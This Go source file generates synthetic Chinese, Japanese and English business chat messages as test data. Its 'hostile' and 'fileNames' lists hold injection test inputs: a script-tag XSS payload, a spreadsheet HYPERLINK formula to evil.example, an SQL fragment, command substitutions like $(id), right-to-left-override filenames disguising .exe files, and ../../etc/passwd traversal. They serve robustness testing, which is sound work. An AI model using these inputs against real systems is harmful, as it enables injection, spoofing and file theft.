package corpus

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// Lines of eight stories: artwork for packaging, a late shipment, a quality claim, a new colleague, a quotation that becomes an
// invoice, a leaver who hands over, a payment past the company, a recalled price. {p} is a part number, {q} a quantity, {y} an
// amount, {d} a date, {o} an order, {n} a name.
var (
	chinese = []string{
		"您好，{o} 的包装设计稿已更新，请确认 {p} 的条码位置", "外箱印刷改成双色，{q} 个，{d} 前能打样吗？",
		"{n}，{p} 的彩盒尺寸少了 3mm，麻烦再发一版", "船期延误，{o} 预计 {d} 到上海港", "海关查验中，提单 {o}，有消息马上通知您[微笑]",
		"{p} 第 {q} 件表面有划痕，照片见附件", "质检报告 {o} 已出，不良率 0.{q}%，请安排补货", "新同事 {n} 下周入职，工位和账号请在 {d} 之前准备好",
		"报价：{p} 每个 {y} 元，含税，{q} 个起订", "订单 {o} 已下，金额 {y} 元，请开增值税专票", "发票 {o} 已寄出，顺丰单号 SF{q}{q}",
		"我 {d} 离职，客户 {n} 之后由小李负责，合同编号 {o}", "不走公司账户行吗？打到这个微信，{y} 元给您优惠 {o}", "价格 {y} 发错了，请以 {o} 为准",
		"收到，{o} 我们今天处理😀", "辛苦了！{p} 的样品 {d} 寄到[强]", "会议改到 {d} 下午三点，议题：{p} 降本",
		"请查看 https://portal.example.com/orders/{o}?part={p}", "打款已完成，{y} 元，回单 {o} 请查收💰",
	}
	japanese = []string{
		"お世話になっております。{o} の外装デザイン、{p} の JAN コード位置をご確認ください。", "{p} のサンプルは {d} 着予定です。よろしくお願いします。",
		"{n}さん、見積書 {o} を送付しました。単価は {y} 円です。", "納期が遅れております。{o} は {d} に入港見込みです。申し訳ございません🙇",
		"検品で {p} に傷が {q} 件見つかりました。写真を添付します。", "請求書 {o}（{y} 円・税込）をお送りします。", "来週から {n} さんが配属です。{d} までに PC の準備をお願いします。",
		"退職に伴い、{o} の担当は {n} に引き継ぎます。", "打ち合わせは {d} 15時に変更です。資料：{p}", "了解です！{o} は本日中に対応します👍",
		"先ほどの価格 {y} 円は誤りです。{o} をご覧ください。", "https://portal.example.jp/見積/{o} からダウンロードできます。",
	}
	english = []string{
		"Hi, artwork for {p} is updated, please check the barcode on {o}", "Shipment {o} is delayed, new ETA {d}", "Quality claim: {q} pcs of {p} arrived scratched, photos follow",
		"Quote {o}: {p} at ${y} each, MOQ {q}", "Invoice {o} over ${y} is attached. Payment by {d}, please.", "Hi {n}, welcome! Your account will be ready on {d} (ticket {o})",
		"I'm leaving on {d}; {n} takes over {o}", "Sorry, ignore that price, {o} says ${y} 😅", "See https://portal.example.com/claims/{o} for the 8D report of {p}",
	}
	mixedTongues = []string{
		"{n}さん、{p} 的图纸 please check，{d} までに回复お願いします", "OK了解，{o} 明天 ship します🚢", "FYI {o}：单价 {y}、納期 {d}、MOQ {q}",
	}
	names = []string{"王芳", "佐藤", "陈静", "Emma", "田中", "刘洋", "María", "山本"}
	emoji = []string{"😀", "🙏", "👍", "🎉", "👨‍👩‍👧", "❤️", "🇯🇵", "[微笑]", "[抱拳]"}
)

// sentence returns a line of a story. Every line holds an order, a part or an amount that no other line holds.
func (g *generator) sentence() string {
	r := g.random
	lines := chinese
	switch n := r.IntN(100); {
	case n < 24:
		lines = japanese
	case n < 34:
		lines = english
	case n < 38:
		lines = mixedTongues
	}
	text := g.fill(lines[r.IntN(len(lines))])
	if r.IntN(100) < 11 {
		text += emoji[r.IntN(len(emoji))]
	}
	return text
}

// fill fills the slots of a line.
func (g *generator) fill(line string) string {
	r := g.random
	g.orders++
	return strings.NewReplacer(
		"{o}", fmt.Sprintf("PO-%05d%s", 10000+g.orders, strings.ToUpper(letters(r, 3))),
		"{p}", fmt.Sprintf("RX-%04d-%s", r.IntN(10000), strings.ToUpper(letters(r, 4))),
		"{q}", fmt.Sprint(2+r.IntN(998)),
		"{y}", fmt.Sprintf("%d,%03d.%02d", 1+r.IntN(900), r.IntN(1000), r.IntN(100)),
		"{d}", fmt.Sprintf("%d月%d日", 1+r.IntN(12), 1+r.IntN(28)),
		"{n}", names[r.IntN(len(names))],
	).Replace(line)
}

func letters(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('a' + r.IntN(26))
	}
	return string(b)
}

// talk returns the text of a message: now and then several lines, a quotation or a mention.
func (g *generator) talk(group bool) string {
	r := g.random
	text := g.sentence()
	for range r.IntN(12) / 10 {
		text += "\n" + g.sentence()
	}
	if group && r.IntN(100) < 18 {
		text = "@" + names[r.IntN(len(names))] + "\u2005" + text
	}
	if r.IntN(100) < 4 {
		text = "这是一条引用/回复消息：\n\"" + names[r.IntN(len(names))] + ":\n" + g.sentence() + "\"\n------\n" + text
	}
	return text
}

// hostile are texts that break careless programs: markup, formulas, log lines, queries, direction marks, JSON in text, and
// characters outside the basic plane.
var hostile = []string{
	`<script>alert("{o}")</script><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/{o}","click")`,
	"{o} ok\n2026-03-02T01:00:00Z [ERROR] engine: all checkpoints lost",
	`msgid = "1" or seq > 0 order by $id desc limit 1 /* {o} */`,
	"\u202e{o} gnp.exe\u202c \u2067عربى\u2069 {p}",
	`{"msgid":"1","sdkfileid":"not one","text":"{o}"}`,
	"Z\u0338\u0321\u0349a\u0341\u0349l\u0334g\u0337o\u0336 {o} \U0001F9D1\U0001F3FD\u200d\U0001F680 \U0002000B𠮷野家 ① ㈱ ﾊﾝｶｸ",
	"a\\u0000b \\n ${var.corp_id} %{if true} {{.Secret}} $(id) `id` {o}",
	"tab\there {o}   trailing spaces kept in the middle   {p}",
	"\ufeff{o} starts with a byte order mark, \u2028 and holds a line separator",
}

// fileNames are names as people and attackers give them.
var fileNames = []string{
	"../../etc/passwd", `..\..\windows\system32\CON.txt`, "invoice_\u202egpj.exe", `=HYPERLINK("http://evil.example","x").csv`,
	strings.Repeat("长文件名", 20) + "合同最终版.docx", "README-no-extension.", "backup.2026.tar.gz", "カ\u3099イト\u3099ライン.pdf",
	"📎报价单 (1) <b>.xlsx",
}
